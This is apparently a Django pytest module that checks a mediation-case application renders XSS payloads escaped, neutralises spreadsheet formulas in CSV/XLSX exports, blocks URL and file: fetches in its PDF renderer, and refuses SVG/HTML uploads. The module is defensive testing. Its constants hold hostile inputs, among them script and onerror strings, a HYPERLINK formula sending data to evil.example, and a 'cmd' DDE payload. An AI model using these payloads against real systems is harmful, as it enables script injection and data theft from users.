"""Injection (issue 10, item 4): XSS and HTML payloads typed into every free-text field, through
the real forms and services, come out inert: escaped in every page that shows them, kept as
text (never a formula) in the ledger exports, printed literally in every PDF, whose renderer
fetches nothing. SVG and HTML uploads are refused; stored files are served as downloads that
the browser may not sniff, from outside anything served publicly.

One hostile case is made once per module: a resident's web complaint (description, claims,
name, address, the other side, a file name), then the mediator's party, session minutes,
evidence file name, agreement terms and obligation, and a follow-up visit's remarks. Cases
typed in at the hotline carry spreadsheet formulas in their summaries, at a compound whose
name is one.
"""

import contextlib
import csv
import io
import socket
import subprocess
import threading
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.test.utils import override_settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from agreements import services as agreements
from cases.models import Evidence
from cases.services import work
from cases.services.assignment import case_assign
from cases.services.moves import case_accept
from cases.services.parties import PartyData, party_add
from core import pdf
from documents.models import Document
from documents.services import document_render, document_request
from followups.models import FollowUpVisit
from followups.services.plans import plan_for_agreement
from followups.services.visits import visit_record
from intake.services.complaints import ComplaintInput, complaint_confirm, complaint_submit
from intake.services.uploads import draft_new, upload_store
from tests.conftest import build_street
from tests.factories.agreements import fee_lines, finalise
from tests.factories.cases import category, make_case
from tests.factories.grids import CompoundFactory
from tests.factories.intake import outbox_code, png_bytes

SHANGHAI = ZoneInfo("Asia/Shanghai")

# The HTML payloads, in one string short enough for a name (128) and typed everywhere.
XSS = (
    '<script>alert(1)</script>"><img src=x onerror=alert(1)>'
    "<svg onload=alert(1)>{{7*7}}</textarea>javascript:alert(1)"
)
# For fields of 64 characters (the resident's name, the building and unit).
SHORT = '<script>alert(1)</script>"><img src=x onerror=alert(1)>'
# What must never reach a page as markup, and what shows it was printed, escaped.
RAW = ("<script>alert(1)", "<img src=x onerror", "<svg onload", "</textarea>javascript")
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&lt;img src=x onerror=alert(1)"
# Spreadsheet formulas (OWASP "CSV injection"), as summaries typed in at the hotline.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
)
FORMULA_COMPOUND = "=1+1小区"
FILE_NAME = '"><img src=x onerror=alert(1)>.png'
MOBILE = "13912340000"


def hostile_world():
    street = build_street()
    worker, mediator = street.grid_worker, street.grid_mediator
    # A compound whose imported name is a formula: it reaches all three ledgers.
    compound = CompoundFactory(grid=street.grid, name=FORMULA_COMPOUND)

    draft = draft_new()
    upload_store(uploaded=SimpleUploadedFile(FILE_NAME, png_bytes()), draft=draft)
    complaint = complaint_submit(
        data=ComplaintInput(
            compound=compound,
            category=category("repairs"),
            description="漏水" + XSS,
            claims=XSS,
            name=SHORT,
            mobile=MOBILE,
            building=SHORT,
            other_side=XSS,
        ),
        draft=draft,
    )
    case = complaint_confirm(token=complaint.token, code=outbox_code(complaint)).case
    case_accept(case_id=case.pk, actor=worker)
    case_assign(case_id=case.pk, actor=worker, user=mediator)
    party_add(
        case_id=case.pk,
        actor=mediator,
        data=PartyData(side="applicant", name=XSS, address=XSS),
    )
    session = work.session_record(
        case_id=case.pk,
        actor=mediator,
        held_at=datetime(2026, 5, 1, 10, tzinfo=SHANGHAI),
        place=XSS,
        mode="joint",
        participants=XSS,
        minutes=XSS,
    )
    evidence = work.evidence_add(
        case_id=case.pk,
        actor=mediator,
        uploaded=SimpleUploadedFile(FILE_NAME, png_bytes()),
        description=XSS,
    )
    agreement = agreements.agreement_draft(case_id=case.pk, actor=mediator)
    lines = fee_lines(case)
    lines[0].description = XSS
    agreements.agreement_update(
        agreement_id=agreement.pk,
        actor=mediator,
        texts=dict.fromkeys(("facts", "disputed_matters", "responsibilities", "terms"), XSS)
        | {"performance": XSS, "place": "调委会"},
        lines=lines,
    )
    finalise(agreement, drafter=mediator)  # and the grid worker approves
    today = timezone.localdate()
    agreements.agreement_record_signing(
        agreement_id=agreement.pk, actor=mediator, signed_on=today, effective_on=today
    )
    plan_for_agreement(agreement_id=agreement.pk)
    visit = FollowUpVisit.objects.filter(case=case).order_by("offset_days").first()
    visit_record(
        visit_id=visit.pk,
        actor=mediator,
        visited_on=today,
        mode="phone",
        participants=XSS,
        performance="performed",
        satisfaction="satisfied",
        remarks=XSS,
    )
    for formula in FORMULAS:
        make_case(compound=compound, title=formula, registered_by=worker)
    case.refresh_from_db()
    return {
        "street": street,
        "case": case,
        "session": session,
        "evidence": evidence,
        "agreement": agreement,
        "visit": visit,
    }


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker, tmp_path_factory):
    private = tmp_path_factory.mktemp("private")
    storages = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(private), "base_url": "/private/"},
        },
    }
    with (
        override_settings(PRIVATE_MEDIA_ROOT=private, STORAGES=storages),
        django_db_blocker.unblock(),
        transaction.atomic(),
    ):
        yield hostile_world()
        transaction.set_rollback(True)


def as_user(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def assert_inert(html: str, where: str) -> None:
    for raw in RAW:
        assert raw not in html, f"{where}: {raw!r} reached the page as markup"
    assert 'href="javascript:' not in html and "src=x" not in html.replace("src=x onerror", "")
    assert ESCAPED in html, f"{where}: the payload is not shown (escaped) where it should be"


# --- pages -----------------------------------------------------------------------------------
def test_the_staff_pages_show_the_payloads_escaped(world, db):
    street, case = world["street"], world["case"]
    mediator = as_user(street.grid_mediator)
    pages = {
        "case page": reverse("cases:detail", args=[case.pk]),
        "inbox": reverse("cases:inbox") + "?view=all",
        "agreement": reverse("agreements:detail", args=[world["agreement"].pk]),
        "agreement preview": reverse("agreements:preview", args=[world["agreement"].pk]),
        "follow-up visit": reverse("followups:visit", args=[world["visit"].pk]),
        "applicant's record": reverse("cases:record-side", args=[case.pk, "applicant"]),
    }
    for where, url in pages.items():
        response = mediator.get(url)
        assert response.status_code == 200, where
        assert_inert(response.content.decode(), where)
        if where not in ("inbox", "agreement"):  # these show summaries and names only
            assert "{{7*7}}" in response.content.decode(), where  # never run as a template


def test_the_ledger_page_shows_formulas_as_text(world, db):
    html = as_user(world["street"].supervisor).get(reverse("reports:ledger")).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?d=&quot;&amp;A1" in html
    for raw in RAW:
        assert raw not in html


def test_the_tracking_page_shows_the_resident_their_words_escaped(world, db):
    case = world["case"]
    resident = Client()
    response = resident.post(
        reverse("intake:track"), {"code": case.tracking_code, "mobile_last4": MOBILE[-4:]}
    )
    assert response.status_code == 302
    html = resident.get(reverse("intake:track-case", args=[case.tracking_code])).content.decode()
    assert_inert(html, "tracking page")


# --- exports ---------------------------------------------------------------------------------
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _export(client, name: str, fmt: str) -> list[list]:
    response = client.get(reverse(name, args=[fmt]))
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(content), read_only=True).active
        return [list(row) for row in sheet.iter_rows(values_only=True)]
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize(
    "name",
    ["reports:ledger-export", "reports:compound-ledger-export", "reports:followup-ledger-export"],
)
def test_the_ledger_exports_never_start_a_cell_with_a_formula(world, db, name, fmt):
    client = as_user(world["street"].supervisor)
    rows = _export(client, name, fmt)
    cells = [c for row in rows for c in row if isinstance(c, str)]
    leading = [c for c in cells if c.startswith(FORMULA_START)]
    assert leading == [], f"cells a spreadsheet would run: {leading}"
    if name == "reports:ledger-export":
        for formula in FORMULAS:
            assert "'" + formula in cells, f"{formula!r} missing from the export"
    assert "'" + FORMULA_COMPOUND in cells


# --- PDFs ------------------------------------------------------------------------------------
def _pdftotext(content: bytes) -> str:
    """The text as pdftotext reads it, without whitespace (the layout adds line breaks)."""
    text = subprocess.run(
        ["pdftotext", "-enc", "UTF-8", "-", "-"], input=content, capture_output=True, check=True
    ).stdout.decode()
    return "".join(text.split())


@pytest.fixture
def fetched(monkeypatch):
    """Every URL the PDF renderer asks its fetcher for (the fetcher itself still decides)."""
    urls = []
    original = pdf.StaticOnlyFetcher.fetch

    def fetch(self, url, headers=None):
        urls.append(url)
        return original(self, url, headers)

    monkeypatch.setattr(pdf.StaticOnlyFetcher, "fetch", fetch)
    return urls


@pytest.mark.parametrize(
    "kind, audience",
    [
        (Document.Kind.AGREEMENT, Document.Audience.ALL),
        (Document.Kind.ACCEPTANCE_FORM, Document.Audience.ALL),
        (Document.Kind.SESSION_MINUTES, Document.Audience.ALL),
        (Document.Kind.CASE_FILE, Document.Audience.INTERNAL),
    ],
)
def test_every_pdf_prints_the_payload_as_text_and_fetches_nothing(
    world, db, fetched, kind, audience
):
    case = world["case"]
    extra = {}
    if kind == Document.Kind.AGREEMENT:
        extra["agreement"] = world["agreement"]
    if kind == Document.Kind.SESSION_MINUTES:
        extra["subject_key"] = f"session:{world['session'].pk}"
    document = document_request(case=case, kind=kind, audience=audience, **extra)
    assert document_render(document_id=document.pk) == Document.State.READY
    document.refresh_from_db()
    text = _pdftotext(document.file.open("rb").read())
    assert "".join(XSS.split()) in text, f"{kind}: the payload is not printed literally"
    outside = [u for u in fetched if not u.startswith(("https://pdf.invalid/", "data:"))]
    assert outside == [], f"{kind}: the renderer asked for {outside}"


def test_markup_that_reached_the_renderer_still_fetches_nothing(settings, tmp_path):
    """Even raw HTML (as if a template forgot to escape) makes no request: the fetcher refuses
    http(s) beyond its own static files, and file: URLs."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    connections = []

    def accept():
        with contextlib.suppress(OSError):  # the timeout: nobody came
            connections.append(listener.accept())

    thread = threading.Thread(target=accept)
    thread.start()
    secret = tmp_path / "secret.txt"
    secret.write_text("不该出现的内容")
    html = (
        f'<link rel="stylesheet" href="http://127.0.0.1:{port}/s.css">'
        f'<img src="http://127.0.0.1:{port}/x.png"><img src="file://{secret}">'
        f'<iframe src="file://{secret}"></iframe><object data="file://{secret}"></object>'
        "<p>正文</p>"
    )
    content = pdf.html_to_pdf(html)
    thread.join()
    listener.close()
    assert connections == []
    assert "不该出现的内容" not in _pdftotext(content)
    with pytest.raises(pdf.URLFetchingError):
        pdf.StaticOnlyFetcher().fetch(f"http://127.0.0.1:{port}/")
    with pytest.raises(pdf.URLFetchingError):
        pdf.StaticOnlyFetcher().fetch(f"file://{secret}")


# --- uploads and downloads -------------------------------------------------------------------
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(1)</script></html>"


@pytest.mark.parametrize(
    "name, content", [("x.svg", SVG), ("photo.png", SVG), ("page.html", HTML), ("a.jpg", HTML)]
)
def test_svg_and_html_are_refused_as_evidence_and_by_the_complaint_form(world, db, name, content):
    case, street = world["case"], world["street"]
    before = Evidence.objects.count()
    response = as_user(street.grid_mediator).post(
        reverse("cases:work", args=[case.pk, "evidence"]),
        {"file": SimpleUploadedFile(name, content, content_type="image/png"), "description": "x"},
    )
    assert response.status_code == 400
    assert Evidence.objects.count() == before
    from intake.models import Upload

    uploads = Upload.objects.count()
    response = Client().post(
        reverse("intake:complaint-new"),
        {
            "compound": case.compound.code,
            "photos": [SimpleUploadedFile(name, content, content_type="image/png")],
            "action": "upload",
        },
    )
    assert Upload.objects.count() == uploads
    assert name in response.content.decode()  # the refusal names the file


def _assert_private_download(response, where: str) -> None:
    assert response.status_code == 200, where
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;"), where
    assert "\n" not in disposition and "<" not in disposition, where
    assert response["X-Content-Type-Options"] == "nosniff", where
    assert "sandbox" in response["Content-Security-Policy"], where


def test_stored_files_are_attachments_from_outside_anything_public(world, db):
    case, street = world["case"], world["street"]
    mediator = as_user(street.grid_mediator)
    evidence = world["evidence"]
    response = mediator.get(reverse("cases:evidence-download", args=[case.pk, evidence.pk]))
    _assert_private_download(response, "evidence")
    document = Document.objects.filter(case=case, state=Document.State.READY).first()
    if document is not None:
        _assert_private_download(
            mediator.get(reverse("documents:download", args=[document.pk])), "document"
        )
    upload = case.complaint.uploads.get()
    _assert_private_download(
        mediator.get(reverse("intake:file-download", args=[upload.pk])), "resident's file"
    )
    assert '"' not in upload.name and "<" not in upload.name  # the stored name is cleaned
    # The files live under the private root, which nothing serves: not static, not a route.
    private = Path(str(settings.PRIVATE_MEDIA_ROOT)).resolve()
    assert str(evidence.file.path).startswith(str(private))
    public = [settings.STATIC_ROOT, *settings.STATICFILES_DIRS]
    for root in public:
        root = Path(str(root)).resolve()
        assert not private.is_relative_to(root) and not root.is_relative_to(private)
    for url in (
        f"/private/{evidence.file.name}",
        f"/media/{evidence.file.name}",
        f"/{evidence.file.name}",
    ):
        assert mediator.get(url).status_code == 404


def test_a_published_typical_case_shows_the_payloads_escaped(world, db):
    """The public library prints what the lead wrote (from the case's own words)."""
    from cases.services.moves import case_close
    from reports.services.typical import (
        typical_case_mark,
        typical_case_publish,
        typical_case_update,
    )

    case, worker = world["case"], world["street"].grid_worker
    # Not the parties' names (which are the payload): publishing refuses text that names them.
    text = XSS.replace("(1)", "(2)")
    case_close(case_id=case.pk, actor=worker)
    typical = typical_case_mark(case_id=case.pk, actor=worker, lesson=text)
    typical_case_update(
        typical_id=typical.pk, actor=worker, title=text, facts=text, mediation=text, lesson=text
    )
    typical_case_publish(typical_id=typical.pk, actor=worker)
    visitor = Client()
    for url in (reverse("reports:typical-public-detail", args=[typical.pk]),
                reverse("reports:typical-public")):  # fmt: skip
        response = visitor.get(url)
        assert response.status_code == 200
        html = response.content.decode()
        for raw in ("<script>alert(2)", "<img src=x onerror", "<svg onload", "</textarea>java"):
            assert raw not in html, f"{url}: {raw!r} reached the page as markup"
        assert "&lt;script&gt;alert(2)&lt;/script&gt;" in html, url
